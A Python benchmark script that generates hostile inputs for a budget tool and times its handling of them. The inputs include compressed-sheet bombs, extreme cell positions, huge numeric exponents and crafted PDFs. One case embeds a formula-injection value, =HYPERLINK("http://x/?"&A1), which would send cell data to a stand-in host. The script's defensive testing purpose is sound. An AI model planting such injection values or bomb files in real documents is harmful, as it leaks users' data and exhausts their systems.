"""Time and peak memory of `yusuan` on hostile files (issue 13): each is generated here, run in a
subprocess, and must end with exit 0/1/2 in seconds and well under 2 GB.

The PDF cases (made as tests/hostile/test_pdf_limits.py makes them) are printed next to a
baseline of the same run: a subprocess that starts Python and prints pypdfium2's plain text of
the same file (what any reader of it pays); a PDF of no known layout is refused after its plain
text, before its grids.

    python benchmarks/bench_hostile.py
"""
from __future__ import annotations

import os
import re
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SMALL = (ROOT / "tests" / "data" / "small-budget.yaml").read_text(encoding="utf-8")


def _workbook(folder: Path) -> tuple[Path, str]:
    sys.path.insert(0, str(ROOT))
    from openpyxl import load_workbook

    from yusuan.read.budget_yaml import read_budget
    from yusuan.workbook.layout import LINES
    from yusuan.workbook.write import write_workbook

    (folder / "b.yaml").write_text(SMALL, encoding="utf-8")
    path = folder / "budget.xlsx"
    path.write_bytes(write_workbook(read_budget(folder / "b.yaml")))
    return path, f"xl/worksheets/sheet{load_workbook(path, read_only=True).sheetnames.index(LINES.name) + 1}.xml"


def _rezip(source: Path, target: Path, name: str, write) -> Path:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename == name:
                with new.open(name, "w") as handle:
                    write(old.read(info), handle)
            else:
                new.writestr(info, old.read(info))
    return target


def cases(folder: Path):
    book, sheet = _workbook(folder)

    def far(data, handle):  # a value at A1048576 and no <dimension>
        data = re.sub(rb"<dimension[^>]*/>", b"", data)
        handle.write(data.replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'))

    def bomb(data, handle):  # 150 MB of blanks in a sheet, 150 KB packed
        head, tail = data.split(b"</worksheet>")
        handle.write(head)
        for _ in range(150):
            handle.write(b" " * 1_000_000)
        handle.write(b"</worksheet>" + tail)

    yield "workbook, value at A1048576, no dimension", ["build", _rezip(book, folder / "far.xlsx", sheet, far)]
    yield "workbook, 150 MB sheet XML in 150 KB", ["build", _rezip(book, folder / "bomb.xlsx", sheet, bomb)]
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x</t></is></c></row>' for r in range(10, 100_010))
    many = _rezip(book, folder / "many.xlsx", sheet, lambda data, handle: handle.write(
        re.sub(rb"<dimension[^>]*/>", b"", data).replace(b"</sheetData>", rows.encode() + b"</sheetData>")))
    yield "workbook, 100,000 broken rows", ["build", many]
    amount = folder / "amount.yaml"
    amount.write_text(SMALL.replace("amount: 1000000.00}", 'amount: "1e100000000"}'), encoding="utf-8")
    yield "budget, amount 1e100000000", ["build", amount]
    names = folder / "names.yaml"
    names.write_text(SMALL.replace("{name: 测试局,", "{name: '=HYPERLINK(\"http://x/?\"&A1)',"), encoding="utf-8")
    yield "budget, unit name =HYPERLINK(…), xlsx", ["build", names, "-f", "xlsx,datapackage"]
    big = folder / "big.yaml"
    extra = "".join(f"  - {{func: 2040201, econ: 30101, kind: 人员经费, amount: {i}.01}}\n" for i in range(10_000))
    big.write_text(SMALL.replace("lines:\n", "lines:\n" + extra), encoding="utf-8")
    yield "budget, 10,000 lines, xlsx", ["build", big, "-f", "xlsx"]


def pdf_cases(folder: Path):
    sys.path.insert(0, str(ROOT))
    from tests.hostile.test_pdf_limits import TEXT, _one_page
    from bench_shanghai import unknown_pdf

    grid = [TEXT, b"0.1 w"]
    for i in range(401):
        grid += [b"%d 50 m %d 1650 l S" % (50 + 4 * i, 50 + 4 * i), b"50 %d m 1650 %d l S" % (50 + 4 * i, 50 + 4 * i)]
    known = folder / "grid-known.pdf"
    known.write_bytes(_one_page(b"\n".join(grid), media_box=b"0 0 1700 1700"))
    yield "PDF ruled 400×400, known layout (grid limit)", known
    unknown = folder / "grid-unknown.pdf"
    unknown.write_bytes(_one_page(b"\n".join(grid), media_box=b"0 0 1700 1700", known=False))
    yield "PDF ruled 400×400, no known layout", unknown
    yield "PDF of 25 pages, no known layout", unknown_pdf(25)


BASELINE = ("import sys, pypdfium2 as p; d = p.PdfDocument(sys.argv[1]); "
            "print(sum(len(d[i].get_textpage().get_text_range()) for i in range(len(d))))")


def _run(command: list[str]) -> tuple[int, float, float]:
    start = time.monotonic()
    child = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ROOT,
                             env={**os.environ, "PYTHONPATH": str(ROOT)})
    _, status, usage = os.wait4(child.pid, 0)
    return os.waitstatus_to_exitcode(status), time.monotonic() - start, usage.ru_maxrss / 1024


def main() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        print(f"{'case':45} {'exit':>4} {'seconds':>8} {'peak MB':>8}")
        for name, args in cases(folder):
            code, seconds, peak = _run([sys.executable, "-m", "yusuan.cli", *map(str, args), "-o", str(folder / "out")])
            print(f"{name:45} {code:>4} {seconds:>8.2f} {peak:>8.0f}")
        for name, path in pdf_cases(folder):
            code, seconds, peak = _run([sys.executable, "-m", "yusuan.cli", "read", str(path), "-o", str(folder / "out")])
            _, floor, _ = _run([sys.executable, "-c", BASELINE, str(path)])
            print(f"{name:45} {code:>4} {seconds:>8.2f} {peak:>8.0f}   baseline (python + pypdfium2 plain text) "
                  f"{floor:.2f} s, {seconds / floor:.2f}×")


if __name__ == "__main__":
    main()
